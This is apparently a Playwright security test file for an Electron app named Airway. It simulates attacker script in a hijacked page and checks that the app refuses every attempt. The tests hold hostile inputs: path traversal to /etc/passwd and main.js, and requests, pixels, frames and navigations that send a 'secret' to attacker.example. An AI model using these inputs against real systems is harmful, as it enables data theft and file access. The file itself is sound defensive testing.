import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from './desktop-app.ts';

// A page that was taken over, in a real renderer: script of an attacker runs in it and tries what it can reach. What the browser
// itself says of it in the console is expected here.
test.use({ expectsComplaints: true });

type Refusals = readonly { readonly kind: string; readonly detail: string }[];
const kinds = (refusals: Refusals) => refusals.map(({ kind }) => kind);
const details = (refusals: Refusals, of: string) =>
  refusals.filter(({ kind }) => kind === of).map(({ detail }) => detail);

test('the page has three functions, and nothing of Electron or Node', async ({ desktop }) => {
  const found = await desktop.page.evaluate(() => ({
    api: Object.keys(window.airway ?? {}).sort(),
    isFrozen: Object.isFrozen(window.airway),
    leaked: ['require', 'process', 'Buffer', 'ipcRenderer', 'electron', 'module', 'global'].filter(
      (name) => name in globalThis,
    ),
  }));
  expect(found).toEqual({ api: ['invoke', 'listen', 'openDropped'], isFrozen: true, leaked: [] });
});

test('no channel, payload, link or path besides those of the contract', async ({ desktop }) => {
  const path = join(desktop.folder, 'written-by-attacker');
  const answers = await desktop.page.evaluate(async (target) => {
    const api = window.airway as unknown as { invoke(channel: unknown, input: unknown): Promise<unknown> };
    const tries: [unknown, unknown][] = [
      ['run-everything', {}],
      ['__proto__', {}],
      ['airway-dropped', target],
      ['run-open', { runId: '../../etc/passwd' }],
      ['run-open', new Map([['runId', 'a']])],
      ['link-open', { link: 'https://attacker.example/' }],
      ['link-open', { link: 'file:///etc/passwd' }],
      ['bundle-save', { runId: 'a', path: target }],
      ['report-print', { runId: 'a', filePath: target }],
    ];
    const outcome = (promise: Promise<unknown>) =>
      promise.then(
        () => 'answered',
        () => 'refused',
      );
    return await Promise.all(tries.map(([channel, input]) => outcome(api.invoke(channel, input))));
  }, path);
  expect(answers).toEqual(Array(9).fill('refused'));
  expect(existsSync(path)).toBe(false);
  const noted = kinds(desktop.refusals());
  expect(noted.filter((kind) => kind === 'unknown-channel')).toHaveLength(3);
  expect(noted.filter((kind) => kind === 'bad-input')).toHaveLength(6);
});

test('no frame within the page gets the API', async ({ desktop }) => {
  const inFrame = await desktop.page.evaluate(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const foreign = document.createElement('iframe');
    foreign.src = 'https://attacker.example/';
    document.body.append(foreign);
    return typeof (frame.contentWindow as unknown as { airway?: unknown } | null)?.airway;
  });
  expect(inFrame).toBe('undefined');
  await expect
    .poll(() => details(desktop.refusals(), 'page-policy'))
    .toContainEqual('frame-src blocked https://attacker.example/');
});

test('no code from text and no request to anywhere, each stopped by the policy and noted', async ({
  desktop,
}) => {
  const tried = await desktop.page.evaluate(
    () =>
      new Promise<{ evaluated: string; fetched: string; isInline: boolean }>((resolve) => {
        // DevTools lifts the policy for what it evaluates itself, so that the attack runs a moment later.
        setTimeout(async () => {
          const script = document.createElement('script');
          script.textContent = 'globalThis.wasInline = true';
          document.body.append(script);
          new Image().src = 'https://attacker.example/pixel.png?secret';
          let evaluated = 'refused';
          try {
            evaluated = String(new Function('return 1 + 1')());
          } catch (error) {
            evaluated = error instanceof Error ? error.name : 'refused';
          }
          const fetched = await fetch('https://attacker.example/x?secret').then(
            () => 'done',
            () => 'refused',
          );
          resolve({ evaluated, fetched, isInline: 'wasInline' in globalThis });
        });
      }),
  );
  expect(tried).toEqual({ evaluated: 'EvalError', fetched: 'refused', isInline: false });
  const noted = () => details(desktop.refusals(), 'page-policy');
  for (const part of ['script-src blocked eval', 'blocked inline', 'img-src blocked', 'connect-src blocked'])
    await expect.poll(noted).toContainEqual(expect.stringContaining(part));
  expect(JSON.stringify(noted())).not.toContain('secret');
});

test('no way out of the page, and no window beside it', async ({ desktop }) => {
  const { page, app } = desktop;
  const before = page.url();
  // A moment later: what asks for this must not wait for a navigation that never comes.
  await page.evaluate(() => {
    setTimeout(() => {
      location.href = 'https://attacker.example/away?secret';
    });
  });
  await expect.poll(() => kinds(desktop.refusals())).toContain('navigation');
  await page.evaluate(() => void setTimeout(() => window.open('https://attacker.example/popup')));
  await expect.poll(() => kinds(desktop.refusals())).toContain('new-window');
  expect(page.url()).toBe(before);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  expect(JSON.stringify(desktop.refusals())).not.toContain('secret');
});

test('no file beside the wizard', async ({ desktop }) => {
  const loaded = await desktop.page.evaluate(async () => {
    const load = (src: string) =>
      new Promise<string>((resolve) => {
        const script = document.createElement('script');
        script.src = src;
        script.addEventListener('load', () => resolve('loaded'));
        script.addEventListener('error', () => resolve('refused'));
        document.body.append(script);
      });
    const paths = ['/../desktop/main.js', '/..%2fdesktop%2fmain.js', '/assets/../../package.json'];
    return await Promise.all(paths.map(load));
  });
  expect(loaded).toEqual(Array(3).fill('refused'));
  expect(details(desktop.refusals(), 'missing-file')).toHaveLength(3);
});

test('no permission', async ({ desktop }) => {
  const answers = await desktop.page.evaluate(async () => {
    const refusal = (promise: Promise<unknown>) =>
      promise.then(
        () => 'granted',
        (error: unknown) => (error instanceof Error ? error.name : 'refused'),
      );
    const position = new Promise<string>((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve('granted'),
        () => resolve('denied'),
      );
    });
    return await Promise.all([
      Notification.requestPermission(),
      position,
      refusal(navigator.clipboard.readText()),
      refusal(navigator.mediaDevices.getUserMedia({ audio: true })),
    ]);
  });
  expect(answers).not.toContain('granted');
  await expect
    .poll(() => details(desktop.refusals(), 'permission'))
    .toEqual(expect.arrayContaining(['notifications', 'geolocation']));
});

test('no news by other names', async ({ desktop }) => {
  const tried = await desktop.page.evaluate(() => {
    const api = window.airway as unknown as { listen(name: string, onNews: () => void): void };
    return ['airway-question', 'constructor', 'app-info'].map((name) => {
      try {
        api.listen(name, () => undefined);
        return 'listens';
      } catch (error) {
        return error instanceof Error ? error.message : 'refused';
      }
    });
  });
  expect(tried).toEqual(Array(3).fill(expect.stringContaining('Airway has no such news')));
});
